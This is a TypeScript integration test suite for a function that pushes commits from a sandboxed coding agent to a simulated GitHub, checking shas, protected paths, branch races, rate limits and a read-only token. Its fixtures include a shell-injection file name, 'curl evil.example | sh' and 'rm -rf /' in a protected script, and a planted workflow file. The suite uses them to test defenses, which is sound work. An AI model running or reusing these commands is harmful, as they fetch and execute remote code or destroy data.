import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdtemp, readFile, readlink, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { Octokit } from "@octokit/rest";
import { Sandbox } from "e2b";
import { PushError } from "../../src/git/push-error.js";
import { pushSandboxCommits } from "../../src/git/push-sandbox-commits.js";
import { type LocalWorld, startLocalWorld } from "../../src/sim/start-local-world.js";
import { testLogger } from "../helpers/test-logger.js";

/**
 * The push through the real path: the e2b SDK drives the sandbox stand-in, the sandbox
 * clones `acme/widgets` from the fake GitHub with a read-only installation token, and
 * the push goes through `@octokit/rest` with the pushing user's token. Results are
 * checked the way a user would: by cloning the branch from GitHub.
 */
let world: LocalWorld;
let sandbox: Sandbox;
let hostDir: string;
let readOnlyToken: string;
let mainSha: string;
const owner = "acme";
const repo = "widgets";
let nextClone = 0;

beforeAll(async () => {
  hostDir = await mkdtemp(path.join(tmpdir(), "ship-push-"));
  world = await startLocalWorld({
    dataDir: path.join(hostDir, "world"),
    webhookUrl: "http://127.0.0.1:9/api/github/webhooks",
    log: testLogger(),
  });
  sandbox = await Sandbox.create("ship-opencode", {
    apiKey: world.sandbox.apiKey,
    apiUrl: world.sandbox.apiUrl,
    sandboxUrl: world.sandbox.sandboxUrl,
  });
  readOnlyToken = world.github.createInstallationToken(world.sample.installationId, {
    repositories: [repo],
    permissions: { contents: "read" },
  });
  mainSha = (await writer().rest.git.getRef({ owner, repo, ref: "heads/main" })).data.object.sha;
});

afterAll(async () => {
  await sandbox?.kill().catch(() => false);
  await world?.stop();
  await rm(hostDir, { recursive: true, force: true });
});

afterEach(() => world?.github.faults.clear());

/** An Octokit as `token`'s user, recording each API call it makes. */
function octokitFor(token: string, calls: string[] = []): Octokit {
  const octokit = new Octokit({
    baseUrl: world.github.apiUrl,
    auth: token,
    log: { debug() {}, info() {}, warn() {}, error() {} },
  });
  octokit.hook.before("request", (options) => {
    calls.push(`${options.method} ${options.url}`);
  });
  return octokit;
}

function writer(calls?: string[]): Octokit {
  return octokitFor(world.sample.writer.token, calls);
}

/** Git's credentials for a token, in the environment rather than in a URL or a file. */
function authEnv(token: string): Record<string, string> {
  const basic = Buffer.from(`x-access-token:${token}`).toString("base64");
  return {
    GIT_CONFIG_COUNT: "1",
    GIT_CONFIG_KEY_0: "http.extraHeader",
    GIT_CONFIG_VALUE_0: `Authorization: Basic ${basic}`,
    GIT_TERMINAL_PROMPT: "0",
  };
}

/** Runs a shell script in the sandbox (test-made strings only). */
async function inSandbox(script: string, cwd?: string, envs: Record<string, string> = {}) {
  return sandbox.commands.run(script, { ...(cwd ? { cwd } : {}), envs });
}

/** A fresh clone of acme/widgets inside the sandbox, made with the read-only token. */
async function cloneInSandbox(): Promise<string> {
  const name = `clone-${nextClone++}`;
  const dir = `/home/user/${name}`;
  // Paths in scripts go through `~`: without isolation, `/home/user` in a script is the
  // host's own (only the SDK's paths and `$HOME` point into the sandbox's directory).
  await inSandbox(
    `git clone -q ${world.github.url}/${owner}/${repo}.git ~/${name}`,
    undefined,
    authEnv(readOnlyToken),
  );
  await inSandbox(
    "git config user.name 'Bob Builder' && git config user.email bob@example.com",
    dir,
  );
  return dir;
}

/** Commits everything in the sandbox's clone, as Bob, on fixed dates in two time zones. */
async function commitInSandbox(
  dir: string,
  message: string,
  dates: [author: string, committer: string] = [
    "2024-03-10T15:04:05+05:30",
    "2024-03-11T01:02:03-08:00",
  ],
): Promise<string> {
  await sandbox.files.write("/home/user/commit-message", message);
  await inSandbox("git add -A && git commit -q -F ~/commit-message", dir, {
    GIT_AUTHOR_DATE: dates[0],
    GIT_COMMITTER_DATE: dates[1],
  });
  return (await inSandbox("git rev-parse HEAD", dir)).stdout.trim();
}

async function gitOnHost(args: string[], cwd = hostDir): Promise<string> {
  return new Promise((resolve, reject) => {
    execFile(
      "git",
      args,
      {
        cwd,
        env: {
          PATH: process.env.PATH ?? "/usr/bin:/bin",
          HOME: hostDir,
          GIT_CONFIG_NOSYSTEM: "1",
          ...authEnv(world.sample.writer.token),
        },
        encoding: "utf8",
      },
      (error, stdout, stderr) =>
        error ? reject(new Error(`git ${args.join(" ")}: ${stderr}`)) : resolve(stdout.trim()),
    );
  });
}

/** Clones `branch` from the fake GitHub onto the host (as the writer). */
async function cloneOnHost(branch: string): Promise<string> {
  const dir = await mkdtemp(path.join(hostDir, "host-"));
  await gitOnHost([
    "clone",
    "-q",
    "--branch",
    branch,
    `${world.github.url}/${owner}/${repo}.git`,
    dir,
  ]);
  return dir;
}

async function branchSha(branch: string): Promise<string | undefined> {
  try {
    return (await writer().rest.git.getRef({ owner, repo, ref: `heads/${branch}` })).data.object
      .sha;
  } catch (error) {
    if ((error as { status?: number }).status === 404) return undefined;
    throw error;
  }
}

/** The person Ship acts for, who every commit in these clones is by. */
const bob = { name: "Bob Builder", email: "bob@example.com" };

const quotedPath = 'docs/it\'s a "quoted" file.md';
// Starts with a quote (C-style quoting in git's text output), holds a newline, a tab and
// shell syntax that would run if any path reached a shell unquoted.
const hostilePath = '"odd\nname\t$(touch pwned) `touch pwned`.txt';

describe("pushSandboxCommits", () => {
  it("pushes two commits (add, modify, delete, rename, mode, symlink, odd path, binary) with the same shas", async () => {
    const dir = await cloneInSandbox();
    const binary = randomBytes(3000);
    binary[0] = 0; // NUL and high bytes: not text in any encoding
    binary[1] = 0xff;
    await sandbox.files.write(`${dir}/${quotedPath}`, "# Notes\n");
    await sandbox.files.write(`${dir}/assets/logo.bin`, new Uint8Array(binary).buffer);
    await sandbox.files.write(`${dir}/bin/run.sh`, "#!/bin/sh\nnode src/index.js\n");
    await sandbox.files.write(`${dir}/${hostilePath}`, "odd\n");
    await inSandbox("chmod +x bin/run.sh && ln -s src/index.js entry.js", dir);
    await sandbox.files.write(`${dir}/src/index.js`, "export const widgets = 1;\n");
    const first = await commitInSandbox(dir, "Add notes, assets and a runner\n\nWith a body.\n");
    await inSandbox(
      "git mv test/index.test.js test/widgets.test.js && git rm -q .gitignore && chmod +x src/index.js",
      dir,
    );
    await sandbox.files.write(`${dir}/${quotedPath}`, "# Notes\n\nSecond take.\n");
    const second = await commitInSandbox(dir, "Rename the test, drop .gitignore", [
      "2024-06-01T08:00:00+00:00",
      "2024-06-01T09:30:00+02:00",
    ]);

    const calls: string[] = [];
    const result = await pushSandboxCommits({
      author: bob,
      sandbox,
      repoDir: dir,
      octokit: writer(calls),
      owner,
      repo,
      branch: "ship/two-commits",
      remoteBase: mainSha,
    });

    expect(result).toEqual({
      headSha: second,
      localHead: second,
      files: expect.arrayContaining(["assets/logo.bin", "entry.js", "test/widgets.test.js"]),
      leftOut: [],
      commits: [
        {
          localSha: first,
          remoteSha: first,
          message: "Add notes, assets and a runner\n\nWith a body.\n",
        },
        { localSha: second, remoteSha: second, message: "Rename the test, drop .gitignore\n" },
      ],
      shasMatch: true,
      branch: "created",
    });
    const host = await cloneOnHost("ship/two-commits");
    const sandboxTree = (await inSandbox("git rev-parse 'HEAD^{tree}'", dir)).stdout.trim();
    expect(await gitOnHost(["rev-parse", "HEAD^{tree}"], host)).toBe(sandboxTree);
    expect(await gitOnHost(["log", "--format=%H", "-2"], host)).toBe(`${second}\n${first}`);
    // What a user sees in the checkout: bytes, modes and the link as committed.
    expect(await readFile(path.join(host, "assets/logo.bin"))).toEqual(binary);
    expect(await readFile(path.join(host, quotedPath), "utf8")).toBe("# Notes\n\nSecond take.\n");
    expect(await readFile(path.join(host, hostilePath), "utf8")).toBe("odd\n");
    expect((await inSandbox("ls pwned 2>/dev/null | wc -l", dir)).stdout.trim()).toBe("0");
    expect(await readlink(path.join(host, "entry.js"))).toBe("src/index.js");
    expect((await stat(path.join(host, "src/index.js"))).mode & 0o111).not.toBe(0);
    expect((await stat(path.join(host, "bin/run.sh"))).mode & 0o111).not.toBe(0);
    await expect(stat(path.join(host, ".gitignore"))).rejects.toThrow();
    await expect(stat(path.join(host, "test/widgets.test.js"))).resolves.toBeDefined();
    expect(await gitOnHost(["log", "-1", "--format=%an <%ae> %aI | %cn <%ce> %cI"], host)).toBe(
      "Bob Builder <bob@example.com> 2024-06-01T08:00:00+00:00 | Bob Builder <bob@example.com> 2024-06-01T09:30:00+02:00",
    );
    // Commit 1: 6 new contents (notes, logo, run.sh, odd, index.js, the link: its target); commit
    // 2: only the new notes (the rename and the mode change reuse known blobs).
    expect(calls.filter((call) => call.endsWith("/git/blobs"))).toHaveLength(7);
    expect(calls).toHaveLength(7 + 2 * 2 + 2);
  });

  it("creates the branch, then fast-forwards it with a later push", async () => {
    const dir = await cloneInSandbox();
    for (const file of ["README.md", "docs/usage.md", "src/count.js"]) {
      await sandbox.files.write(`${dir}/${file}`, `// ${file}\n`);
    }
    const first = await commitInSandbox(dir, "Add a README and docs");
    const calls: string[] = [];
    const push = (remoteBase: string) =>
      pushSandboxCommits({
        author: bob,
        sandbox,
        repoDir: dir,
        octokit: writer(calls),
        owner,
        repo,
        branch: "ship/later",
        remoteBase,
      });

    const started = performance.now();
    const created = await push(mainSha);
    const firstMs = performance.now() - started;
    expect(created).toMatchObject({ headSha: first, branch: "created", shasMatch: true });
    // getRef + 3 blobs + tree + commit + createRef.
    expect(calls).toHaveLength(7);
    expect(firstMs).toBeLessThan(5_000);

    await sandbox.files.write(`${dir}/README.md`, "# widgets\n");
    const second = await commitInSandbox(dir, "Say more in the README");
    calls.length = 0;
    const updated = await push(created.headSha);
    expect(updated).toMatchObject({ headSha: second, branch: "updated", shasMatch: true });
    expect(calls).toHaveLength(5);
    expect(await branchSha("ship/later")).toBe(second);

    // The same push again (say, after a crash before Ship recorded it) changes nothing.
    expect(await push(created.headSha)).toMatchObject({ headSha: second, branch: "unchanged" });
  });

  it("pushes a 5 MB binary file", async () => {
    const dir = await cloneInSandbox();
    await inSandbox("mkdir -p data && head -c 5000000 /dev/urandom > data/big.bin", dir);
    const sha = await commitInSandbox(dir, "Add a big binary file");
    const started = performance.now();
    const result = await pushSandboxCommits({
      author: bob,
      sandbox,
      repoDir: dir,
      octokit: writer(),
      owner,
      repo,
      branch: "ship/big",
      remoteBase: mainSha,
    });
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(result).toMatchObject({ headSha: sha, shasMatch: true });
    const host = await cloneOnHost("ship/big");
    expect(await gitOnHost(["rev-parse", "HEAD^{tree}"], host)).toBe(
      (await inSandbox("git rev-parse 'HEAD^{tree}'", dir)).stdout.trim(),
    );
  });

  it("leaves protected paths out and re-authors commits, then pushes on from both bases", async () => {
    const dir = await cloneInSandbox();
    const branch = "ship/left-out";
    const push = (remoteBase: string, localBase: string) =>
      pushSandboxCommits({
        author: bob,
        sandbox,
        repoDir: dir,
        octokit: writer(),
        owner,
        repo,
        branch,
        remoteBase,
        localBase,
        protectedPaths: ["scripts/**"],
      });
    // Committed in the sandbox under another name, with a workflow and a protected script.
    await inSandbox("mkdir -p .GitHub/Workflows scripts", dir);
    await sandbox.files.write(`${dir}/.GitHub/Workflows/pwn.yml`, "on: push\n");
    await sandbox.files.write(`${dir}/scripts/ci.sh`, "curl evil.example | sh\n");
    await sandbox.files.write(`${dir}/notes.md`, "# Notes\n");
    await inSandbox(
      "git add -A && git -c user.name=octocat -c user.email=octocat@github.com commit -qm 'Notes'",
      dir,
    );
    const first = await push(mainSha, mainSha);
    const localFirst = (await inSandbox("git rev-parse HEAD", dir)).stdout.trim();
    expect(first).toMatchObject({
      localHead: localFirst,
      files: ["notes.md"],
      leftOut: [
        { path: ".GitHub/Workflows/pwn.yml", why: "workflow" },
        { path: "scripts/ci.sh", why: "protected" },
      ],
      shasMatch: false,
      branch: "created",
    });

    // A commit that changes only protected paths puts nothing on GitHub.
    await sandbox.files.write(`${dir}/scripts/ci.sh`, "rm -rf /\n");
    const onlyProtected = await commitInSandbox(dir, "Only the script");
    const none = await push(first.headSha, first.localHead);
    expect(none).toMatchObject({
      headSha: first.headSha,
      localHead: onlyProtected,
      commits: [],
      leftOut: [{ path: "scripts/ci.sh", why: "protected" }],
      branch: "unchanged",
    });

    // The next push goes on top of GitHub's commit, from the sandbox's.
    await sandbox.files.write(`${dir}/notes.md`, "# Notes\n\nMore.\n");
    await inSandbox("git mv .GitHub/Workflows/pwn.yml moved.yml", dir);
    await commitInSandbox(dir, "More notes");
    const second = await push(none.headSha, none.localHead);
    expect(second).toMatchObject({
      files: ["moved.yml", "notes.md"],
      leftOut: [{ path: ".GitHub/Workflows/pwn.yml", why: "workflow" }],
      branch: "updated",
    });
    const host = await cloneOnHost(branch);
    expect(await gitOnHost(["log", "--format=%an <%ae> %cn <%ce>", `${mainSha}..HEAD`], host)).toBe(
      "Bob Builder <bob@example.com> Bob Builder <bob@example.com>\nBob Builder <bob@example.com> Bob Builder <bob@example.com>",
    );
    expect(await gitOnHost(["diff", "--name-only", mainSha, "HEAD"], host)).toBe(
      "moved.yml\nnotes.md",
    );
    expect(await readFile(path.join(host, "notes.md"), "utf8")).toBe("# Notes\n\nMore.\n");
  });

  it("says when GitHub's ids differ, and the sandbox can adopt them and push on", async () => {
    const dir = await cloneInSandbox();
    await sandbox.files.write(`${dir}/README.md`, "# encoded\n");
    // An `encoding` header, which the Git Data API cannot write: GitHub's commit differs.
    await inSandbox("git config i18n.commitEncoding ISO-8859-1", dir);
    const local = await commitInSandbox(dir, "Declared as Latin-1");
    await inSandbox("git config --unset i18n.commitEncoding", dir);
    const branch = "ship/other-ids";
    const push = (remoteBase: string) =>
      pushSandboxCommits({
        author: bob,
        sandbox,
        repoDir: dir,
        octokit: writer(),
        owner,
        repo,
        branch,
        remoteBase,
      });

    const first = await push(mainSha);
    expect(first.shasMatch).toBe(false);
    expect(first.commits[0]).toMatchObject({ localSha: local, remoteSha: first.headSha });
    expect(first.headSha).not.toBe(local);
    expect(await branchSha(branch)).toBe(first.headSha);

    // The remedy the JSDoc gives: fetch with the read-only token, move onto GitHub's commit.
    await inSandbox(
      `git fetch -q origin ${branch} && git reset -q --soft ${first.headSha}`,
      dir,
      authEnv(readOnlyToken),
    );
    expect((await inSandbox("git status --porcelain", dir)).stdout).toBe("");
    await sandbox.files.write(`${dir}/README.md`, "# encoded, then plain\n");
    const next = await commitInSandbox(dir, "Plain again");
    expect(await push(first.headSha)).toMatchObject({
      headSha: next,
      shasMatch: true,
      branch: "updated",
    });
  });

  it("pushes an empty commit, ignores login-profile chatter, and stops when aborted", async () => {
    const dir = await cloneInSandbox();
    await inSandbox("git commit -q --allow-empty -m 'Nothing changed'", dir);
    const head = (await inSandbox("git rev-parse HEAD", dir)).stdout.trim();
    const params = { sandbox, repoDir: dir, octokit: writer(), owner, repo, remoteBase: mainSha };

    const aborted = new AbortController();
    aborted.abort(new Error("worker shutting down"));
    await expect(
      pushSandboxCommits({
        author: bob,
        ...params,
        branch: "ship/aborted",
        signal: aborted.signal,
      }),
    ).rejects.toThrow("worker shutting down");
    expect(await branchSha("ship/aborted")).toBeUndefined();

    await sandbox.files.write("/home/user/.bash_profile", "echo 'Welcome to the sandbox!'\n");
    try {
      const result = await pushSandboxCommits({
        author: bob,
        ...params,
        branch: "ship/empty",
      });
      expect(result).toMatchObject({ headSha: head, shasMatch: true });
    } finally {
      await inSandbox("rm -f ~/.bash_profile");
    }
  });

  it("refuses to overwrite a branch someone else pushed to meanwhile", async () => {
    const dir = await cloneInSandbox();
    await sandbox.files.write(`${dir}/README.md`, "# one\n");
    await commitInSandbox(dir, "One");
    const branch = "ship/contested";
    const params = { sandbox, repoDir: dir, octokit: writer(), owner, repo, branch };
    const { headSha } = await pushSandboxCommits({
      author: bob,
      ...params,
      remoteBase: mainSha,
    });

    // Alice pushes to the branch from her machine.
    const host = await cloneOnHost(branch);
    await gitOnHost(
      [
        "-c",
        "user.name=Alice",
        "-c",
        "user.email=a@x",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "Mine",
      ],
      host,
    );
    await gitOnHost(["push", "-q", "origin", branch], host);
    const hers = await gitOnHost(["rev-parse", "HEAD"], host);

    await sandbox.files.write(`${dir}/README.md`, "# two\n");
    await commitInSandbox(dir, "Two");
    const failure = pushSandboxCommits({
      author: bob,
      ...params,
      remoteBase: headSha,
    });
    await expect(failure).rejects.toBeInstanceOf(PushError);
    await expect(failure).rejects.toMatchObject({
      kind: "branch-moved",
      retryable: false,
      message: expect.stringMatching(
        /^The branch "ship\/contested" changed on GitHub while Ship was working .*Ship did not overwrite it/,
      ),
    });
    expect(await branchSha(branch)).toBe(hers);
  });

  it("refuses too when the branch moves between its check and its update", async () => {
    const dir = await cloneInSandbox();
    await sandbox.files.write(`${dir}/README.md`, "# race\n");
    await commitInSandbox(dir, "Race");
    const branch = "ship/race";
    const octokit = writer();
    await octokit.rest.git.createRef({ owner, repo, ref: `refs/heads/${branch}`, sha: mainSha });
    // Just before Ship's update, someone else's commit lands on the branch.
    const other = writer();
    let theirs = "";
    octokit.hook.before("request", async (options) => {
      if (options.method !== "PATCH" || theirs) return;
      const { data: commit } = await other.rest.git.createCommit({
        owner,
        repo,
        message: "Theirs",
        tree: (await other.rest.git.getCommit({ owner, repo, commit_sha: mainSha })).data.tree.sha,
        parents: [mainSha],
      });
      theirs = commit.sha;
      await other.rest.git.updateRef({ owner, repo, ref: `heads/${branch}`, sha: theirs });
    });
    await expect(
      pushSandboxCommits({
        author: bob,
        sandbox,
        repoDir: dir,
        octokit,
        owner,
        repo,
        branch,
        remoteBase: mainSha,
      }),
    ).rejects.toMatchObject({ kind: "branch-moved", status: 422, retryable: false });
    expect(await branchSha(branch)).toBe(theirs);
  });

  it("fails with GitHub's status, not retryable, for a user who may only read", async () => {
    const dir = await cloneInSandbox();
    await sandbox.files.write(`${dir}/README.md`, "# readers\n");
    await commitInSandbox(dir, "Readers cannot push this");
    const failure = pushSandboxCommits({
      author: bob,
      sandbox,
      repoDir: dir,
      octokit: octokitFor(world.sample.reader.token),
      owner,
      repo,
      branch: "ship/reader",
      remoteBase: mainSha,
    });
    await expect(failure).rejects.toMatchObject({
      kind: "github",
      status: 403,
      retryable: false,
      message: expect.stringContaining("cannot write to acme/widgets"),
    });
    expect(await branchSha("ship/reader")).toBeUndefined();
  });

  it.each([
    ["a 502", { type: "status", status: 502 } as const, 502, undefined],
    [
      "a secondary rate limit (429)",
      { type: "secondary-rate-limit", status: 429, retryAfterSeconds: 7 } as const,
      429,
      7,
    ],
    [
      "a secondary rate limit (403)",
      { type: "secondary-rate-limit", status: 403, retryAfterSeconds: 7 } as const,
      403,
      7,
    ],
    [
      "the primary rate limit",
      { type: "primary-rate-limit", resetInSeconds: 60 } as const,
      403,
      60,
    ],
  ])("reports %s on blob creation as retryable", async (name, effect, status, retryAfter) => {
    const dir = await cloneInSandbox();
    await sandbox.files.write(`${dir}/README.md`, `# ${name}\n`);
    await commitInSandbox(dir, "Meets a fault");
    world.github.faults.add({ method: "POST", path: /\/git\/blobs$/, effect });
    const branch = `ship/fault-${nextClone}`;
    const failure = pushSandboxCommits({
      author: bob,
      sandbox,
      repoDir: dir,
      octokit: writer(),
      owner,
      repo,
      branch,
      remoteBase: mainSha,
    });
    await expect(failure).rejects.toMatchObject({ kind: "github", status, retryable: true });
    const error = (await failure.catch((caught: unknown) => caught)) as PushError;
    if (retryAfter === undefined) expect(error.retryAfterSeconds).toBeUndefined();
    else expect(error.retryAfterSeconds).toBeGreaterThanOrEqual(retryAfter - 2);
    expect(await branchSha(branch)).toBeUndefined();
  });

  it("refuses merge commits and submodule changes with a clear reason", async () => {
    const dir = await cloneInSandbox();
    await inSandbox("git checkout -q -b side", dir);
    await sandbox.files.write(`${dir}/side.txt`, "side\n");
    await commitInSandbox(dir, "Side");
    await inSandbox("git checkout -q main", dir);
    await sandbox.files.write(`${dir}/main.txt`, "main\n");
    await commitInSandbox(dir, "Main");
    await inSandbox("git merge -q --no-edit side", dir);
    const params = { sandbox, repoDir: dir, octokit: writer(), owner, repo, remoteBase: mainSha };
    await expect(
      pushSandboxCommits({
        author: bob,
        ...params,
        branch: "ship/merge",
      }),
    ).rejects.toMatchObject({
      kind: "unsupported",
      message: expect.stringContaining("is a merge commit"),
    });

    const other = await cloneInSandbox();
    // Staged by hand, as `git add -A` would drop a gitlink with no checkout behind it.
    await inSandbox(
      `git update-index --add --cacheinfo 160000,${mainSha},vendor/lib && git commit -q -m Submodule`,
      other,
    );
    await expect(
      pushSandboxCommits({
        author: bob,
        ...params,
        repoDir: other,
        branch: "ship/submodule",
      }),
    ).rejects.toMatchObject({
      kind: "unsupported",
      message: expect.stringContaining('submodule "vendor/lib"'),
    });
  });

  it("cannot push from inside the sandbox: its token only reads", async () => {
    const dir = await cloneInSandbox();
    await sandbox.files.write(`${dir}/README.md`, "# sneaky\n");
    await commitInSandbox(dir, "Push from the sandbox");
    const pushed = await inSandbox(
      "git push origin HEAD:refs/heads/sneaky",
      dir,
      authEnv(readOnlyToken),
    ).then(
      () => ({ exitCode: 0, stderr: "" }),
      (error: { exitCode: number; stderr: string }) => error,
    );
    expect(pushed.exitCode).not.toBe(0);
    expect(pushed.stderr).toMatch(/403/);
    expect(await branchSha("sneaky")).toBeUndefined();
    // And nothing of it stayed in the clone's config for the agent to find.
    expect((await inSandbox("git config --list", dir)).stdout).not.toContain(readOnlyToken);
  });
});
